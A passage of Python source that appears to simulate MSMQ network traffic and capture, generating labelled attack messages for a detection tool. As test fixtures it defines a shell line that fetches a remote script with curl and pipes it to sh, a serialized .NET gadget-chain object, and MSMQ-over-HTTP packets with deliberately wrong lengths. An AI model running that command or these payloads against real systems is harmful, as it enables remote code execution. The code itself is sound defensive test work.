        return stated in _ANSWERED or not {frozenset(row.hop) for row in sent} & self._net.lost_pairs

    def _until(self, letter: Letter, captured: list[Evidence]) -> float:
        """Return the end of the capture of the sensor that captured the last hop of a message first."""
        hop = final_hop(letter.home, captured)
        rows = [row for row in captured if row.what == "carried" and row.hop == hop]
        if not rows:
            return 0.0
        _, _, sensor = min(rows, key=lambda row: row.time).line.partition(" ")
        return self._net.until[sensor] - CLOCK_TOLERANCE

    def dependencies(self) -> Iterator[Dependency]:
        """Yield the messages that each host sent to each queue, without acknowledgments, after `run`."""
        groups: dict[tuple[str, str, str], Counter[str]] = {}
        for copies in self._messages():
            first = copies[0]
            if first.message_class:
                continue
            seen = {letter.destination for letter in copies if _is_seen(letter)}
            is_listed = all(first.queues.values())  # a packet to one of the queues names all
            for destination, home in first.queues.items():
                is_seen = bool(seen) if is_listed or not home else destination in seen
                group = groups.setdefault((first.source, home, destination), Counter())
                group["messages"] += 1
                group["captured"] += is_seen
                group["bytes"] += first.size * is_seen
                group["encrypted"] += first.encrypted and is_seen
                group["signed"] += first.signed and is_seen
        for (source, home, destination), group in sorted(groups.items()):
            host = self._net.hosts[source]
            yield Dependency(source, str(host.ip), str(host.identifier), home, destination, **group)

    def machines(self) -> Iterator[Machine]:
        """Yield the hosts, after `run`."""
        located, named = set[str](), set[str]()
        for letter in self._net.letters:
            for row in letter.captured.values():
                if row.what == "carried" and row.line not in self._net.lost:
                    located.update(row.hop)
                    named.update(row.hop[1:] if letter.destination.startswith("DIRECT=OS:") else ())
        for name, host in self._net.hosts.items():
            yield Machine(name, str(host.ip), str(host.identifier), name in located, name in named)

    def reads(self) -> Iterator[RemoteRead]:
        """Yield the remote reads, after `run`."""
        for read in self._net.reads:
            letter, reader = read.letter, read.reader
            yield RemoteRead(
                read.time,
                letter.message,
                letter.message.partition("\\")[0],
                letter.destination,
                letter.home,
                str(reader.identifier),
                str(reader.ip),
                read.captured,
            )

    def copies(self) -> Iterator[Copy]:
        """Yield the copies that were moved, after `run`."""
        for time, letter, host, queue, captured in self._net.collected:
            yield Copy(time, letter.message, host, queue.removeprefix("transactional "), captured)

    def attacks(self) -> Iterator[Attack]:
        """Yield the attacks, after `run`; a message with a bad body for each hop that was captured."""
        for pattern, at, src, dst, captured in self._attacks:
            yield Attack(pattern, at, src, dst, captured())
        for letter in self._net.letters:
            for pattern in self._bodies.get(letter.label, ()):
                hops = {row.hop: row.time for row in letter.passed.values() if row.what == "carried"}
                captured_hops = {row.hop for row in letter.captured.values() if row.what == "carried"}
                for hop, time in sorted(hops.items()):
                    src, dst = (str(self._net.hosts[name].ip) for name in hop)
                    yield Attack(pattern, time, src, dst, hop in captured_hops)


_ANSWERED: Final = frozenset({"refused", "received", "reached", "accepted"})
_OPENED: Final = frozenset({"no-handshake", "length-beyond-packet"})
"""The patterns that need the beginning of the connection."""
_LETTERS: Final = b"abcdefghijklmnopqrstuvwxyz 0123456789"
_SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"


def _times_sent(letter: Letter) -> int:
    """Return in how many sessions a message was sent over the same hop; of several hops the most."""
    sessions = {
        (row.hop, row.line.partition(" ")[0]) for row in letter.captured.values() if row.what == "carried"
    }
    return max(Counter(hop for hop, _ in sessions).values(), default=0)


def _is_seen(letter: Letter) -> bool:
    """Return whether a packet of a message was captured completely."""
    return any(row.what in {"carried", "returned"} for row in letter.captured.values())


def _queue_number(packet: mqmq.UserMessage) -> int:
    """Return the number of the queue of a message; 0 for a direct name."""
    return getattr(packet.UserHeader.DestinationQueue, "PrivateQueueIdentifier", 0)


def _direct(host: str, application: _Application) -> str:
    return rf"DIRECT=OS:{host}\private$\{application.name.replace(' ', '-')}"


def _private(host: Host, number: int) -> str:
    return f"PRIVATE={host.identifier}\\{number:08x}"


def _text(value: str) -> bytes:
    """Return a LengthPrefixedString of less than 128 bytes ([MS-NRBF] 2.1.1.6)."""
    return bytes([len(value)]) + value.encode()


_GADGET: Final = (
    b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0"  # SerializationHeaderRecord
     b"\4\1\0\0\0" + _text("System.Data.DataSet") + struct.pack("<i", 0)  # SystemClassWithMembersAndTypes
    + b"\x0b"  # MessageEnd
)  # fmt: skip
"""A serialized object of a class that is part of a public gadget chain; it has no members."""


def _establish(client: GUID) -> bytes:
    header = mqqb.EstablishConnectionHeader(ClientGuid=client)
    return mw.encode(mqqb.EstablishConnection(EstablishConnectionHeader=header))


def _over_http(length: int | None = None) -> bytes:
    """Return a message with headers of a message over HTTP, whose envelope may have a wrong length."""
    envelope, request = mw.mqrr.SRMPEnvelopeHeader(Data="<se:Envelope/>\0"), b"POST /msmq/q HTTP/1.1\r\n\r\n"
    packet = mqmq.UserMessage.of(
        SourceQueueManager=GUID(b"\x77" * 16),
        MessageID=1,
        SentTime=_START,
        DestinationQueue="DIRECT=HTTP://10.0.0.2/msmq/q",
        SRMPEnvelopeHeader=envelope,
        CompoundMessageHeader=mw.mqrr.CompoundMessageHeader(Data=request),
    )
    data = bytearray(mw.encode(packet))
    if length is not None:
        at = data.index("<se:Envelope/>".encode("utf-16-le")) - 4
        struct.pack_into("<I", data, at, length)
    return bytes(data)
